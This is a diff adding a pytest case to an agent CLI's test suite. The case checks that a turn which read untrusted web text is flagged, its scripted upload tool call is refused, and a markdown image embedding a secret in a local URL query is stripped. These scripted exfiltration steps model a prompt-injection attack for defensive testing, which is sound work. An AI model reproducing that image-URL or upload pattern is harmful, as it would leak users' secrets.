@@ -155,3 +155,22 @@ def test_sandbox_network_off_lets_commands_run(kernel_for, server, site, collect
     wc = [m for m in stored_tools(agent) if m["tool_call_id"] == "wc"][0]
     assert str(len(SECRET)) in wc["content"]  # no network: the command ran
     assert (folder / "summary.md").read_text() == "v2"  # a write inside the workspace
+
+
+def test_hermes_chat_says_when_the_turn_became_tainted(kernel_for, server, site, collector,
+                                                       folder, capsys, monkeypatch) -> None:  # noqa: F811
+    import functools
+
+    from hermes_agent.cli import root as cli_root
+
+    monkeypatch.chdir(folder)
+    factory = functools.partial(web_kernel, kernel_for)
+    server.script(reply_tool_call("web_extract", {"urls": [site.url + "/notes"]}),
+                  reply_tool_call("terminal", upload(collector)),
+                  reply_text(f"Done ![x](http://127.0.0.1:9/p.png?d={SECRET})"))
+    assert cli_root.main(["chat", "-q", "summarise the notes"], kernel_factory=factory) == 0
+    out, err = capsys.readouterr()
+    tainted = [line for line in err.splitlines() if "untrusted text from web:127.0.0.1" in line]
+    assert len(tainted) == 1 and tainted[0].startswith("⚠ this turn read untrusted text")
+    assert "Refused: this turn read untrusted text" in err and collector.received == []
+    assert SECRET not in out and "[image removed" in out
